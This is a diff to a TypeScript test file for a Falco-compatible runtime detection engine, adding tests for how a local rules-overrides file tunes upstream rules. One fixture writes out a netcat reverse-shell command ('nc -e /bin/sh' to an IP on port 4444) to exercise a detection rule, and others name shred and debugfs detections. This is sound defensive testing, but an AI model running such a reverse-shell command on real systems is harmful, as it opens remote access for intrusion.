@@ -7,7 +7,7 @@ import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { FdType, L4Proto, ProcFlag, type Alert } from '@peregrine/event';
 import { checkRules, formatDiagnostic, loadRulesText, parseRulesConfig, Severity, type Ruleset } from '../../src/index.ts';
-import { BatchBuilder, BASE_TS, O } from '../ruleset/batch-builder.ts';
+import { BatchBuilder, BASE_TS, O, flag } from '../ruleset/batch-builder.ts';
 
 const UPSTREAM = new URL('../../../../../shared/falco-rules/', import.meta.url);
 const stable = { name: 'falco_rules.yaml', content: readFileSync(new URL('falco_rules.yaml', UPSTREAM), 'utf8') };
@@ -36,8 +36,12 @@ describe('upstream rules load', () => {
 
 const SECOND = 1_000_000_000n;
 const CAP = { DAC_OVERRIDE: 1n << 1n, SYS_MODULE: 1n << 16n, SYS_ADMIN: 1n << 21n } as const;
-const PTRACE = { TRACEME: 0, PEEKDATA: 2, ATTACH: 16 } as const;
-const AF = { INET: 2, PACKET: 17 } as const;
+const PTRACE = {
+  TRACEME: flag('ptrace_requests', 'PTRACE_TRACEME'),
+  PEEKDATA: flag('ptrace_requests', 'PTRACE_PEEKDATA'),
+  ATTACH: flag('ptrace_requests', 'PTRACE_ATTACH'),
+} as const;
+const AF = { INET: flag('socket_families', 'AF_INET'), PACKET: flag('socket_families', 'AF_PACKET') } as const;
 
 type Build = (b: BatchBuilder) => void;
 interface Case {
@@ -246,4 +250,84 @@ describe('upstream stable rules: fire and near miss', () => {
       assert.ok(alerts.some((a) => a.rule === rule));
     });
   }
+});
+
+describe('upstream rules with a local overrides file, as Falco users write one', () => {
+  const local = {
+    name: 'falco_rules.local.yaml',
+    content: `
+- macro: user_expected_terminal_shell_in_container_conditions
+  condition: (k8s.ns.name = dev)
+  override:
+    condition: replace
+
+- list: known_drop_and_execute_containers
+  items: [registry.example.com/tools/debug]
+  override:
+    items: append
+
+- rule: Remove Bulk Data from Disk
+  enabled: false
+  override:
+    enabled: replace
+
+- rule: Netcat Remote Code Execution in Container
+  exceptions:
+    - name: allowed_scanner
+      fields: [k8s.ns.name, proc.pname]
+      values: [[security, scanner]]
+  override:
+    exceptions: append
+
+- rule: Debugfs Launched in Privileged Container
+  priority: critical
+  output: debugfs in privileged container (pod=%k8s.pod.name cmdline=%proc.cmdline)
+  override:
+    priority: replace
+    output: replace
+`,
+  };
+  const rules = loadRulesText([stable, incubating, local], parseRulesConfig({ rule_matching: 'all' }));
+  const run = (build: Build) => {
+    const b = new BatchBuilder();
+    build(b);
+    const alerts: Alert[] = [];
+    rules.evaluate(b.batch, (a) => alerts.push(a));
+    return alerts;
+  };
+
+  it('loads with no errors and the same 56 rules', () => {
+    assert.equal(rules.rules.length, 56);
+    assert.deepEqual(rules.diagnostics.filter((d) => d.severity === Severity.Error), []);
+  });
+
+  it('a replaced tuning macro silences the rule for that namespace only', () => {
+    const shell = (ns: string) => (b: BatchBuilder) => exec(b, b.proc({ name: 'bash', tty: 34816 }, [{ name: 'runc' }], b.container({}, { nsName: ns })));
+    assert.ok(!run(shell('dev')).some((a) => a.rule === 'Terminal shell in container'));
+    assert.ok(run(shell('prod')).some((a) => a.rule === 'Terminal shell in container'));
+  });
+
+  it('an appended list item excludes that image', () => {
+    const drop = (repo: string) => (b: BatchBuilder) => exec(b, b.proc({ name: 'x', flags: ProcFlag.ExeUpperLayer }, [{ name: 'sh' }], b.container({ imageRepository: repo })));
+    assert.ok(!run(drop('registry.example.com/tools/debug')).some((a) => a.rule === 'Drop and execute new binary in container'));
+    assert.ok(run(drop('registry.example.com/shop/web')).some((a) => a.rule === 'Drop and execute new binary in container'));
+  });
+
+  it('a disabled rule no longer fires', () => {
+    assert.ok(!run((b) => exec(b, b.proc({ name: 'shred' }))).some((a) => a.rule === 'Remove Bulk Data from Disk'));
+  });
+
+  it('an appended exception excepts its tuple only', () => {
+    const nc = (ns: string, parent: string) => (b: BatchBuilder) =>
+      exec(b, b.proc({ name: 'nc', args: ['-e', '/bin/sh', '203.0.113.5', '4444'] }, [{ name: parent }], b.container({}, { nsName: ns })));
+    assert.ok(!run(nc('security', 'scanner')).some((a) => a.rule === 'Netcat Remote Code Execution in Container'));
+    assert.ok(run(nc('security', 'bash')).some((a) => a.rule === 'Netcat Remote Code Execution in Container'));
+  });
+
+  it('replaced priority and output show in the alert', () => {
+    const [alert] = run((b) => exec(b, b.proc({ name: 'debugfs', args: ['/dev/sda1'] }, [], b.container({ privileged: true }, { podName: 'p-1' }))))
+      .filter((a) => a.rule === 'Debugfs Launched in Privileged Container');
+    assert.equal(alert!.priority, 'Critical');
+    assert.match(alert!.output, /: Critical debugfs in privileged container \(pod=p-1 cmdline=debugfs \/dev\/sda1\)$/);
+  });
 });
